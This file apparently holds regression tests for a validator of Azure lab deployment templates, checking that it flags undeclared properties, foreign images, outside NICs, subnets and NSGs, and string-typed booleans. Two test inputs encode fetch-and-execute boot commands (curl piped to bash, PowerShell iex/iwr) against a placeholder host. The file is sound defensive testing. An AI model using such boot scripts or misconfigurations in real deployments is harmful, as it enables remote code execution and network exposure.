// Regressions of the property inventory (inventory-properties), its value pins (inventory-image, ingress-nic-subnet,
// ingress-vm-nics, ingress-lab-subnet-nsg) and string booleans: each sets a property on a type the lab allows.
import type { Case } from "./case";
import { b64, field, FOLDS, set, SUB, T } from "./mutation-helpers";
import { WIN } from "./mutation-helpers";

const OTHER_RG = `${SUB}/resourceGroups/other-rg/providers`;
const OUTSIDE_SUBNET = `${OTHER_RG}/Microsoft.Network/virtualNetworks/other-vnet/subnets/default`;
const OUTSIDE_NIC = `${OTHER_RG}/Microsoft.Network/networkInterfaces/other-nic`;
const SUBNET = T.subnet;
const VNET = T.vnet;
const vm1 = (key: string, fn: (v: any) => unknown) => field(T.vm, "seat1-vm", key, fn);
const nicConfigs = (fn: (c: any) => any) => field(T.nic, "seat1-nic", "ipConfigurations", (cs: any[]) => cs.map(fn));

export const SHAPE_CASES: readonly Case[] = [
  // Boot-time code and images.
  {
    title: "userData that fetches and runs a script at boot",
    mutations: [set(T.vm, "seat1-vm", { userData: b64("#!/bin/bash\ncurl -fsSL https://example.invalid/x | bash\n") })],
    rules: ["inventory-properties"],
    says: /VirtualMachine seat1-vm sets \[userData\], which the lab never declares for this type: remove it/,
  },
  {
    title: "userData on a Windows seat",
    config: WIN,
    mutations: [set(T.vm, "seat1-vm", { userData: b64("powershell -c iex (iwr https://example.invalid/x)") })],
    rules: ["inventory-properties"],
    says: /sets \[userData\]/,
  },
  {
    title: "customData with a harmless-looking script (no scanner pattern, still undeclared)",
    mutations: [vm1("osProfile", (o) => ({ ...o, customData: b64("#!/bin/sh\necho ready > /var/tmp/ready\n") }))],
    rules: ["inventory-properties"],
    says: /sets \[osProfile\.customData\]/,
  },
  {
    title: "a community gallery image",
    mutations: [
      vm1("storageProfile", (s) => ({
        ...s,
        imageReference: { communityGalleryImageId: "/CommunityGalleries/evil-1234/Images/dsvm/Versions/latest" },
      })),
    ],
    rules: ["inventory-image"],
    says: /VM dsvmlab-vm1 boots another image \(publisher null is not "microsoft-dsvm".*communityGalleryImageId is set\): set storageProfile\.imageReference to microsoft-dsvm:ubuntu-2204:2204-gen2:latest/,
  },
  {
    title: "the DSVM image from another publisher",
    mutations: [vm1("storageProfile", (s) => ({ ...s, imageReference: { ...s.imageReference, publisher: "evilpublisher" } }))],
    rules: ["inventory-image"],
    says: /publisher "evilpublisher" is not "microsoft-dsvm"/,
  },
  {
    title: "the Ubuntu image on a Windows seat",
    config: WIN,
    mutations: [
      vm1("storageProfile", (s) => ({
        ...s,
        imageReference: { publisher: "microsoft-dsvm", offer: "ubuntu-2204", sku: "2204-gen2", version: "latest" },
      })),
    ],
    rules: ["inventory-image"],
    says: /offer "ubuntu-2204" is not "dsvm-win-2022"/,
  },
  {
    title: "a gallery application installed on a seat",
    mutations: [
      set(T.vm, "seat1-vm", {
        applicationProfile: {
          galleryApplications: [{ packageReferenceId: `${OTHER_RG}/Microsoft.Compute/galleries/g/applications/a/versions/1.0.0` }],
        },
      }),
    ],
    rules: ["inventory-properties"],
    says: /sets \[applicationProfile\.galleryApplications\[\]\.packageReferenceId\]/,
  },
  {
    title: "boot diagnostics to an outside storage account",
    mutations: [
      vm1("diagnosticsProfile", () => ({ bootDiagnostics: { enabled: true, storageUri: "https://attackerdiag.blob.core.windows.net/" } })),
    ],
    rules: ["inventory-properties"],
    says: /sets \[diagnosticsProfile\.bootDiagnostics\.storageUri\]/,
  },
  // New network paths through allowed types.
  {
    title: "an inline VNet peering to an outside VNet",
    mutations: [
      set(VNET, undefined, {
        virtualNetworkPeerings: [
          {
            name: "out",
            remoteVirtualNetwork: { id: `${OTHER_RG}/Microsoft.Network/virtualNetworks/other-vnet` },
            allowForwardedTraffic: true,
          },
        ],
      }),
    ],
    rules: ["inventory-properties"],
    says: /VirtualNetwork network-vnet sets \[virtualNetworkPeerings\[\]\.allowForwardedTraffic, virtualNetworkPeerings\[\]\.name, virtualNetworkPeerings\[\]\.remoteVirtualNetwork\.id\]/,
  },
  {
    title: "VNet DNS servers",
    mutations: [set(VNET, undefined, { dhcpOptions: { dnsServers: ["198.51.100.53"] } })],
    rules: ["inventory-properties"],
    says: /sets \[dhcpOptions\.dnsServers\[\]\]/,
  },
  {
    title: "the lab subnet shared with the tenant",
    mutations: [set(SUBNET, "network-subnet", { sharingScope: "Tenant" })],
    rules: ["inventory-properties"],
    says: /Subnet network-subnet sets \[sharingScope\]/,
  },
  {
    title: "a route table from outside on the lab subnet",
    mutations: [set(SUBNET, "network-subnet", { routeTable: { id: `${OTHER_RG}/Microsoft.Network/routeTables/rt` } })],
    rules: ["inventory-properties"],
    says: /sets \[routeTable\.id\]/,
  },
  {
    title: "NIC IP forwarding",
    mutations: [set(T.nic, "seat1-nic", { enableIPForwarding: true })],
    rules: ["inventory-properties"],
    says: /NetworkInterface seat1-nic sets \[enableIPForwarding\]/,
  },
  {
    title: "a NIC behind a load balancer's inbound NAT rule",
    mutations: [
      nicConfigs((c) => ({
        ...c,
        loadBalancerInboundNatRules: [{ id: `${OTHER_RG}/Microsoft.Network/loadBalancers/lb/inboundNatRules/ssh` }],
      })),
    ],
    rules: ["inventory-properties"],
    says: /sets \[ipConfigurations\[\]\.loadBalancerInboundNatRules\[\]\.id\]/,
  },
  ...FOLDS.map(({ name, fold }): Case => ({
    title: `a NIC in a subnet outside the stack (id ${name})`,
    mutations: [nicConfigs((c) => ({ ...c, subnet: { id: fold(OUTSIDE_SUBNET) } }))],
    rules: ["ingress-nic-subnet"],
    says: /NIC dsvmlab-vm1-nic IP configuration ipconfig1 \(subnet \/subscriptions\/.*other-vnet\/subnets\/default\) is not in the lab subnet: set subnet\.id/i,
  })),
  {
    title: "a seat NIC in AzureBastionSubnet",
    config: WIN,
    mutations: [
      nicConfigs((c) => ({
        ...c,
        subnet: {
          id: `${SUB}/resourceGroups/dsvmlab-win-rbac-rg/providers/Microsoft.Network/virtualNetworks/dsvmlab-vnet/subnets/AzureBastionSubnet`,
        },
      })),
    ],
    rules: ["ingress-nic-subnet"],
    says: /is not in the lab subnet/,
  },
  ...FOLDS.map(({ name, fold }): Case => ({
    title: `a second NIC from outside the stack on a seat (id ${name})`,
    mutations: [
      vm1("networkProfile", (n) => ({ ...n, networkInterfaces: [...n.networkInterfaces, { id: fold(OUTSIDE_NIC), primary: false }] })),
    ],
    rules: ["ingress-vm-nics"],
    says: /VM dsvmlab-vm1: it has 2 NICs, not 1; 1 NIC\(s\) are not the seat's own NIC of this plan/i,
  })),
  {
    title: "seat 1 using seat 2's NIC",
    mutations: [
      vm1("networkProfile", (n) => ({
        ...n,
        networkInterfaces: [
          { id: `${SUB}/resourceGroups/dsvmlab-dev-rg/providers/Microsoft.Network/networkInterfaces/dsvmlab-vm2-nic`, primary: true },
        ],
      })),
    ],
    rules: ["ingress-vm-nics"],
    says: /1 NIC\(s\) are not the seat's own NIC of this plan/,
  },
  {
    title: "the lab subnet without its NSG (no public IPs)",
    mutations: [set(SUBNET, "network-subnet", { networkSecurityGroup: undefined })],
    rules: ["ingress-lab-subnet-nsg"],
    says: /Subnet network-subnet has no NSG: set its networkSecurityGroup to the lab's NSG/,
  },
  {
    title: "the lab subnet on an outside NSG",
    mutations: [
      set(SUBNET, "network-subnet", { networkSecurityGroup: { id: `${OTHER_RG}/Microsoft.Network/networkSecurityGroups/open-nsg` } }),
    ],
    rules: ["ingress-lab-subnet-nsg"],
    says: /has another NSG \(.*open-nsg\)/,
  },
  // Storage.
  {
    title: "Azure Files identity-based auth with an elevated default share permission",
    mutations: [
      set(T.account, undefined, {
        azureFilesIdentityBasedAuthentication: {
          directoryServiceOptions: "AADKERB",
          defaultSharePermission: "StorageFileDataSmbShareElevatedContributor",
        },
      }),
    ],
    rules: ["inventory-properties"],
    says: /StorageAccount storage-account sets \[azureFilesIdentityBasedAuthentication\.defaultSharePermission, azureFilesIdentityBasedAuthentication\.directoryServiceOptions\]/,
  },
  {
    title: "storage SFTP turned on with a string",
    mutations: [set(T.account, undefined, { isSftpEnabled: "true" })],
    rules: ["ingress-storage-features"],
    says: /turns on isSftpEnabled/,
  },
  // String booleans.
  {
    title: "Bastion tunneling and shareable links as strings",
    config: WIN,
    mutations: [set(T.bastion, undefined, { enableTunneling: "True", enableShareableLink: "true" })],
    rules: ["ingress-bastion-features"],
    says: /turns on enableShareableLink, enableTunneling/,
  },
  {
    title: "the check's asyncExecution as a string",
    mutations: [set(T.runCommand, "seat1-check-probe", { asyncExecution: "true" })],
    rules: ["lifecycle-check-on-deploy"],
    says: /cannot fail the deploy \(treatFailureAsDeploymentFailure true, asyncExecution "true"\)/,
  },
  {
    title: "the check's treatFailureAsDeploymentFailure as a string",
    mutations: [set(T.runCommand, "seat1-check-probe", { treatFailureAsDeploymentFailure: "True" })],
    rules: ["lifecycle-check-on-deploy"],
    says: /treatFailureAsDeploymentFailure "True"/,
  },
];
